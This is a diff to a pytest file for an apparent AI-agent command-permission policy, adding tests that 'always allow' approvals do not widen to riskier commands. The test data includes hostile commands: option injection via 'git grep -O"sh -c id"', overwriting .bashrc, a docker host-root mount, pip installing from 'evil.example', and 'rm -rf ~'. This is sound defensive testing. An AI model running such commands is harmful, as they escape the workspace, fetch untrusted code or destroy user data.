@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import os
+import shlex
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import attrs
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from agybridge.permissions import (
     HookRequest,
@@ -233,40 +236,112 @@ def test_command_prefixes(line: str, prefix: str | None) -> None:
     if prefix is None:
         assert key == "command-exact:" + line.strip()
     else:
-        assert key == "command:" + prefix
+        assert key.startswith(("command:" + prefix + "\t", "command-exact:"))
 
 
-def run(line: str) -> HookRequest:
-    return HookRequest("run_command", {"CommandLine": line, "Cwd": "/ws"})
+def run(line: str, cwd: str = "/ws") -> HookRequest:
+    return HookRequest("run_command", {"CommandLine": line, "Cwd": cwd})
 
 
-def test_always_rules_by_command_prefix(world: dict[str, str]) -> None:
-    """'Always' answers cover the same prefix only: git status is not git push."""
+def test_always_rules_by_command_shape(world: dict[str, str]) -> None:
+    """'Always allow' covers the same prefix with approved or read-only options and
+    plain operands, run in the workspace; 'always reject' covers the whole prefix."""
     rules = policy(world)
-    status = rules.assess(run("git status"))
+    ws = world["ws"]
+    status = rules.assess(run("git status", ws))
     assert status.verdict is ASK
-    assert (status.key, status.scope) == ("command:git status", "`git status` commands")
+    assert status.key == "command:git status\t"
+    assert status.scope == (
+        "`git status` commands with no options (or read-only ones) and plain arguments "
+        "inside the workspace"
+    )
+    assert status.rejected_scope == "`git status` commands"
     rules.remember(status.key, True)
-    assert rules.assess(run("git status --short")).verdict is ALLOW
-    assert rules.assess(run("git push")).verdict is ASK
-    assert rules.assess(run("git status && git push")).verdict is ASK
-    assert rules.assess(run("git")).verdict is ASK
+    assert rules.assess(run("git status --short", ws)).verdict is ALLOW
+    assert rules.assess(run("git status", "/elsewhere")).verdict is ASK
+    assert rules.assess(run("git push", ws)).verdict is ASK
+    assert rules.assess(run("git status && git push", ws)).verdict is ASK
+    assert rules.assess(run("git", ws)).verdict is ASK
 
-    push = rules.assess(run("git push origin main"))
+    push = rules.assess(run("git push origin main", ws))
     rules.remember(push.key, False)
-    denied = rules.assess(run("git push --force"))
+    denied = rules.assess(run("git push --force https://example.com/x", ws))
     assert denied.verdict is DENY
     assert denied.reason == "the user rejected `git push` commands for this session"
-    assert rules.assess(run("git status")).verdict is ALLOW
+    assert rules.assess(run("git status", ws)).verdict is ALLOW
 
-    compound = rules.assess(run("make && make install"))
+    compound = rules.assess(run("make && make install", ws))
     assert compound.scope == "this exact command"
     rules.remember(compound.key, True)
-    assert rules.assess(run("make && make install")).verdict is ALLOW
-    assert rules.assess(run("make && make install && rm -rf ~")).verdict is ASK
+    assert rules.assess(run("make && make install", ws)).verdict is ALLOW
+    assert rules.assess(run("make && make install && rm -rf ~", ws)).verdict is ASK
 
     rules.forget_all()
-    assert rules.assess(run("git status")).verdict is ASK
+    assert rules.assess(run("git status", ws)).verdict is ASK
+
+
+#: The issue's five: (approved, later) pairs where "always allow" must NOT cover later.
+WIDENING = [
+    ("git grep TODO", 'git grep -O"sh -c id" TODO'),
+    ("git grep TODO", "git grep -Ovim TODO"),
+    ("git grep TODO", "git grep -O vim TODO"),
+    ("git log -1", "git log --output=notes.txt"),
+    ("git log -1", "git log --output=/home/u/.bashrc -1"),
+    ("docker run --rm hello-world", "docker run --rm -v /:/host alpine chroot /host"),
+    ("docker run --rm hello-world", "docker run --rm --privileged alpine"),
+    ("pip install requests", "pip install https://evil.example/x.tar.gz"),
+    ("pip install requests", "pip install git+ssh://git@host/x"),
+    ("pip install requests", "pip install -e ."),
+    ("go run main.go", "go run ../elsewhere/x.go"),
+    ("go run main.go", "go run /tmp/x.go"),
+    ("rg TODO", "rg --pre ./x TODO"),
+    ("make test", "make test CC=evil"),
+    ("ls src", "ls ~"),
+]
+#: Harmless variants that "always allow" of the first must cover.
+COVERED = [
+    ("git grep foo", "git grep -n bar"),
+    ("git grep -n bar", "git grep foo"),
+    ("git grep foo", "git grep -in -e bar -- src"),
+    ("git log -1", "git log -5 --stat src/a.py"),
+    ("go run main.go", "go run cmd/other.go"),
+    ("pip install requests", "pip install numpy"),
+    ("docker run --rm hello-world", "docker run --rm busybox"),
+    ("cargo test --all", "cargo test --all parser"),
+]
+
+
+@pytest.mark.parametrize(("approved", "later"), WIDENING)
+def test_always_allow_does_not_widen(world: dict[str, str], approved: str, later: str) -> None:
+    """Options or operands that run programs, write files, mount, fetch or leave the
+    workspace are asked again after "always allow" of a harmless command."""
+    rules = policy(world)
+    first = rules.assess(run(approved, world["ws"]))
+    rules.remember(first.key, True)
+    assert rules.assess(run(approved, world["ws"])).verdict is ALLOW
+    assert rules.assess(run(later, world["ws"])).verdict is ASK
+
+
+@pytest.mark.parametrize(("approved", "later"), COVERED)
+def test_always_allow_covers_harmless_variants(
+    world: dict[str, str], approved: str, later: str
+) -> None:
+    """Repeated harmless variants are not asked again."""
+    rules = policy(world)
+    rules.remember(rules.assess(run(approved, world["ws"])).key, True)
+    assert rules.assess(run(later, world["ws"])).verdict is ALLOW
+
+
+def test_exact_approval_covers_only_itself(world: dict[str, str]) -> None:
+    """A command with a URL can be approved, but only exactly."""
+    rules = policy(world)
+    line = "pip install https://example.com/x.tar.gz"
+    answer = rules.assess(run(line, world["ws"]))
+    assert answer.scope == "this exact command"
+    rules.remember(answer.key, True)
+    assert rules.assess(run(line, world["ws"])).verdict is ALLOW
+    assert rules.assess(run(line + "#y", world["ws"])).verdict is ASK
+    assert rules.assess(run("pip install requests", world["ws"])).verdict is ASK
 
 
 def test_always_rules_per_tool_and_mcp_tool(world: dict[str, str]) -> None:
@@ -318,3 +393,43 @@ def test_mode_and_roots_are_validated(world: dict[str, str]) -> None:
         rules.mode = "nope"
     with pytest.raises(attrs.exceptions.FrozenAttributeError):
         rules.roots = ("/elsewhere",)
+
+
+_SAFE_WORD = st.from_regex(r"[a-z][a-z0-9_.]{0,8}", fullmatch=True)
+_WIDENING_WORD = st.one_of(
+    st.from_regex(r"/[a-z]{1,8}(/[a-z]{1,8})?", fullmatch=True),
+    st.from_regex(r"\.\./[a-z]{1,8}", fullmatch=True),
+    st.from_regex(r"(https?|git\+ssh|file)://[a-z]{1,8}\.[a-z]{2,3}/[a-z]{0,8}", fullmatch=True),
+    st.from_regex(r"~[a-z]{0,8}", fullmatch=True),
+    st.from_regex(r"[A-Z]{1,4}=[a-z/]{1,8}", fullmatch=True),
+    st.from_regex(r"--[a-z]{2,8}=/[a-z]{1,8}", fullmatch=True),
+    # Short options in no read-only allow-list (e.g. ``-O``), alone or in a cluster.
+    st.from_regex(r"-[a-z]{0,2}[OXYZKJQWxyjk][a-z]{0,2}", fullmatch=True),
+)
+
+
+@given(
+    program=st.sampled_from(["git grep", "git log", "docker run", "pip install", "go run", "ls"]),
+    approved=st.lists(_SAFE_WORD, max_size=3),
+    later=st.lists(_SAFE_WORD, max_size=3),
+    widening=_WIDENING_WORD,
+    at=st.integers(min_value=0, max_value=3),
+)
+def test_always_never_covers_a_widening_word(
+    tmp_path_factory: pytest.TempPathFactory,
+    *,
+    program: str,
+    approved: list[str],
+    later: list[str],
+    widening: str,
+    at: int,
+) -> None:
+    """Whatever was approved with plain words, a later command of the same program with
+    an absolute path, .., a URL, ~, an assignment, a path-valued option or an unknown
+    short option is asked again."""
+    ws = str(tmp_path_factory.getbasetemp())
+    rules = Policy((ws,), "ask")
+    rules.remember(rules.assess(run(shlex.join([*program.split(), *approved]), ws)).key, True)
+    words = [*later[:at], widening, *later[at:]]
+    line = shlex.join([*program.split(), *words])
+    assert rules.assess(run(line, ws)).verdict is ASK, line
